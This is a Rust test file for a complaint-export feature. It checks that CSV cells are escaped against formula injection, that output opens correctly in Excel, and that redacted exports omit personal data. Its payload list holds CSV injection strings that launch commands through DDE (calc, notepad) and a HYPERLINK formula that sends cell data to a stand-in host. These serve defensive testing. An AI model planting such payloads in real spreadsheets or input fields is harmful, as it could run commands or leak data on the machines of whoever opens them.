use crate::domain::keyed::Keyed;
use super::read_back;
use crate::domain::channel::Channel;
use crate::domain::csv::cell::{guard, is_dangerous};
use crate::domain::csv::export::{export_complaints, Codes, ExportColumn, ExportLanguage, ExportRow};
use crate::domain::csv::write::write_table;
use crate::domain::sla::calendar::BusinessCalendar;
use chrono::NaiveDate;

/// OWASP's CSV injection payloads and friends.
const PAYLOADS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=10+20+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!E2",
    "@cmd|'/c notepad'!_xlbgnm.A1",
    " =1+1",
    "\n=1+1",
    "＝1+1",
    "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
];

#[test]
fn owasp_payloads_are_written_as_text() {
    let rows: Vec<Vec<&str>> = PAYLOADS.iter().map(|p| vec![*p, "ok"]).collect();
    let bytes = write_table(&["value", "other"], rows).unwrap();
    let back = read_back(&bytes);
    assert_eq!(back[0], ["value", "other"]);
    for (payload, row) in PAYLOADS.iter().zip(&back[1..]) {
        let cell = &row[0];
        let first = cell.chars().next().unwrap();
        assert!(!['=', '+', '-', '@', '\t', '\r', '＝'].contains(&first), "{payload:?} written as {cell:?}");
        if is_dangerous(payload) {
            assert_eq!(*cell, format!("'{payload}"), "{payload:?}");
        } else {
            assert_eq!(cell, payload);
        }
        assert_eq!(row[1], "ok");
    }
    assert!(!is_dangerous("DDE (\"cmd\")"), "text starting with a letter is left alone");
    assert_eq!(guard("王先生"), "王先生");
    assert_eq!(guard("-"), "'-");
}

#[test]
fn excel_format_bom_crlf_quotes_and_chinese() {
    let bytes = write_table(&["名称", "说明"], vec![vec!["空调, KFR", "第一行\n第二行"], vec!["say \"hi\"", ""]]).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    assert_eq!(text, "名称,说明\r\n\"空调, KFR\",\"第一行\n第二行\"\r\n\"say \"\"hi\"\"\",\r\n");
    assert_eq!(read_back(&bytes)[1], ["空调, KFR", "第一行\n第二行"]);
}

fn row() -> ExportRow {
    ExportRow {
        number: "20261125-TEL-K7-003".into(),
        received_at: NaiveDate::from_ymd_opt(2026, 11, 25).unwrap().and_hms_opt(9, 5, 59),
        channel: Some(Channel::Phone),
        customer_name: "=王先生".into(),
        customer_phone: "+86 138 0000 0000".into(),
        product: "空调".into(),
        type_key: Some("quality".into()),
        urgency: Some("urgent".into()),
        status: "classified".into(),
        handler: Some("li".into()),
        department: Some("after_sales".into()),
        due_ms: Some(BusinessCalendar::default().utc(NaiveDate::from_ymd_opt(2026, 11, 25).unwrap().and_hms_opt(10, 0, 0).unwrap())),
        closed_ms: None,
        satisfaction: None,
        device: "dev-1".into(),
    }
}

struct Chinese;
impl ExportLanguage for Chinese {
    fn header(&self, c: ExportColumn) -> String {
        format!("列{}", c.key())
    }
    fn value(&self, _: ExportColumn, code: &str) -> String {
        format!("<{code}>")
    }
    fn yes_no(&self, yes: bool) -> String {
        if yes { "是" } else { "否" }.into()
    }
}

#[test]
fn complaints_export_with_business_times_and_translations() {
    let cal = BusinessCalendar::default();
    assert_eq!(cal.utc_offset_minutes, 480);
    let now = row().due_ms.unwrap() + 1; // just after the due time
    let bytes = export_complaints(&[row()], false, &Chinese, &cal, now).unwrap();
    let back = read_back(&bytes);
    assert_eq!(back[0].len(), 16);
    assert_eq!(back[0][0], "列number");
    let cells = &back[1];
    assert_eq!(cells[0], "20261125-TEL-K7-003");
    assert_eq!(cells[1], "2026-11-25 09:05");
    assert_eq!(cells[2], "<phone>");
    assert_eq!(cells[3], "'=王先生", "a customer name cannot inject a formula");
    assert_eq!(cells[4], "'+86 138 0000 0000");
    assert_eq!(cells[11], "2026-11-25 10:00");
    assert_eq!(cells[12], "是");
    assert_eq!(cells[13], "");
}

#[test]
fn the_redacted_export_has_no_personal_data() {
    let cal = BusinessCalendar::default();
    let bytes = export_complaints(&[row()], true, &Codes, &cal, 0).unwrap();
    let text = String::from_utf8(bytes).unwrap();
    assert!(!text.contains("王先生") && !text.contains("138"), "{text}");
    let back = read_back(text.as_bytes());
    assert_eq!(back[0], ExportColumn::columns(true).iter().map(|c| c.key().to_string()).collect::<Vec<_>>());
    assert_eq!(back[0].len(), 14);
    assert_eq!(back[1][back[0].iter().position(|h| h == "overdue").unwrap()], "no");
}
